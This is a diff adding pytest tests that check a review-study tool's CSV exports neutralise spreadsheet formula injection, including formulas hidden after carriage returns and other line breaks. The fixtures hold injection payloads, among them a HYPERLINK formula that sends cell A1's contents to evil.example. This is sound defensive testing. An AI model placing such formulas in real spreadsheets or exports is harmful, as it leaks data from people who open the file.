@@ -26,8 +26,16 @@ from abp_tui.services.importing import import_paths
 from abp_tui.services.publishing import export_bundle
 from abp_tui.services.results_report import unblind
 from abp_tui.services.reviewing import ReviewSession
+from abp_tui.services.stations import merge_ratings, open_pack, write_ratings, write_study_pack
 from abp_tui.store import connect
-from abp_tui.text.csvsafe import FORMULA_STARTS, Figure, csv_text, neutralise, safe_cell
+from abp_tui.text.csvsafe import (
+    FORMULA_STARTS,
+    LINE_BREAKS,
+    Figure,
+    csv_text,
+    neutralise,
+    safe_cell,
+)
 from tests.factories import AFP_DIMS, GATE, Cli, write_jsonl
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -175,3 +183,131 @@ def test_the_judgments_export_of_the_cli_is_neutralised(tmp_path: Path, cli: Cli
     assert not [
         c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not _is_number(c)
     ]
+
+
+# -- issue 27: formulas after a line break (a bare CR above all) ---------------------------------
+def _formula_lines(text: str) -> list[str]:
+    """The lines of ``text``, split as a naive reader would (on LF, on CR, and on every break
+    ``str.splitlines`` knows), that begin like a formula; a row whose first cell is a number
+    (a negative figure) is not one."""
+    lines = text.split("\n") + text.split("\r") + text.splitlines()
+    return [
+        line
+        for line in lines
+        if line.startswith(FORMULA_STARTS) and not _is_number(line.split(",")[0])
+    ]
+
+
+def _read_back(text: str) -> list[list[str]]:
+    """The rows a CSV reader finds in ``text`` (no newline translation: a CR stays a CR)."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("brk", list(LINE_BREAKS), ids=[f"U+{ord(c):04X}" for c in LINE_BREAKS])
+def test_a_formula_after_any_line_break_is_neutralised_and_the_cell_kept_whole(brk: str) -> None:
+    text = f"ok{brk}@SUM(1){brk}{brk}=1+1{brk}plain"
+    written = csv_text(["text", "n", f"head{brk}-x"], [[text, -2.5, "last"]])
+    assert _formula_lines(written) == []
+    shown = f"ok{brk}'@SUM(1){brk}{brk}'=1+1{brk}plain"
+    assert _read_back(written) == [["text", "n", f"head{brk}'-x"], [shown, "-2.5", "last"]]
+    # The CR/LF pair is one break: the quote goes after it, not between its characters.
+    assert neutralise("a\r\n@b") == "a\r\n'@b"
+
+
+def _cr_study(tmp_path: Path, db: sqlite_utils.Database) -> tuple[int, list[str]]:
+    """A study whose task's fatal criterion has a formula after a CR, judged on a reviewer
+    station (rationale ``ok\\r@SUM(1)``, the criterion ticked) and merged; unblinded."""
+    lines: list[dict[str, object]] = [
+        {"type": "study", "id": "s", "rubric_id": "afp-v0.1"},
+        {"type": "condition", "id": "A"},
+        {"type": "condition", "id": "C"},
+        {"type": "task", "id": "T1", "prompt": "p", "fatal_criteria": [CR_CRITERION]},
+    ]
+    for cond in ("A", "C"):
+        lines.append({"type": "run", "id": f"T1-{cond}", "task_id": "T1", "condition_id": cond})
+    import_paths(db, [write_jsonl(tmp_path / "s.jsonl", lines)])
+    pk = create_design(
+        db,
+        StudyDesign(
+            study="s",
+            name="m",
+            seed=3,
+            contrasts=[("C", "A")],
+            reviewers=["a", "b"],
+            reviewers_per_item=2,
+        ),
+    ).pk
+    judgment = Judgment(
+        responses={
+            "1": ResponseJudgment(
+                scores=dict.fromkeys(AFP_DIMS, 1),
+                rationales=dict.fromkeys(AFP_DIMS, CR_RATIONALE),
+                fatal_hits=(CR_CRITERION,),
+            ),
+            "2": ResponseJudgment(scores=dict.fromkeys(AFP_DIMS, 2)),
+        },
+        preference=PreferenceChoice.RESPONSE_2,
+        justification="fine\u2028=1+1",
+        validity=GATE,
+    )
+    codes = []
+    for reviewer in ("a", "b"):
+        pack = tmp_path / f"{reviewer}.pack.json"
+        write_study_pack(db, pk, reviewer, pack)
+        station = connect(tmp_path / f"{reviewer}.db")
+        session = ReviewSession(station, open_pack(station, pack), reviewer)
+        codes = [r.code for r in session.queue()]
+        session.save(codes[0], judgment, 30, submit=True)
+        write_ratings(station, tmp_path / f"{reviewer}.ratings.json")
+        station.close()
+        merge_ratings(db, [tmp_path / f"{reviewer}.ratings.json"])
+    unblind(db, "s", "coordinator")
+    return pk, codes
+
+
+CR_RATIONALE = "ok\r@SUM(1)"
+CR_CRITERION = 'Leaks the key.\r=HYPERLINK("http://evil.example")'
+
+
+def test_a_cr_merged_from_a_station_starts_no_formula_in_any_exported_csv(
+    tmp_path: Path, db: sqlite_utils.Database, cli: Cli
+) -> None:
+    pk, _codes = _cr_study(tmp_path, db)
+    bundle = export_bundle(db, pk, tmp_path / "bundle")
+    texts = {
+        p.relative_to(bundle.folder).as_posix(): p.read_bytes().decode("utf-8")
+        for p in sorted(bundle.folder.rglob("*.csv"))
+    }
+    db.close()
+    out = tmp_path / "judgments.csv"
+    result = cli("export", "judgments", "--db", tmp_path / "test.db", "--study", "s", "--out", out)
+    assert result.code == 0, result.err
+    texts["export judgments"] = out.read_bytes().decode("utf-8")
+    assert "results/agreement.csv" in texts and "results/judgments.csv" in texts
+    for name, text in texts.items():
+        assert _formula_lines(text) == [], name
+        rows = _read_back(text)
+        assert all(len(row) == len(rows[0]) for row in rows), name  # no row broken in two
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
+    # What was written is there, each line of it shown as text.
+    for name in ("export judgments", "results/judgments.csv"):
+        shown = {c for row in _read_back(texts[name]) for c in row}
+        assert "ok\r'@SUM(1)" in shown and "fine\u2028'=1+1" in shown, name
+    agreement = {c for row in _read_back(texts["results/agreement.csv"]) for c in row}
+    assert any("Leaks the key.\r'=HYPERLINK" in c for c in agreement)
+    # The bundle still re-derives to the same bytes.
+    assert verify(bundle.folder).derived >= 10
+
+
+def test_every_csv_the_program_writes_goes_through_csvsafe() -> None:
+    # Python's writer leaves a bare CR unquoted (rows ending in LF) and knows nothing of
+    # formulas: no module writes CSV but through abp_tui.text.csvsafe, which uses neither it
+    # nor anything else.
+    package = Path(__file__).resolve().parent.parent / "abp_tui"
+    writers = [
+        path.relative_to(package).as_posix()
+        for path in sorted(package.rglob("*.py"))
+        if any(w in path.read_text("utf-8") for w in ("csv.writer", "csv.DictWriter"))
+    ]
+    assert writers == []
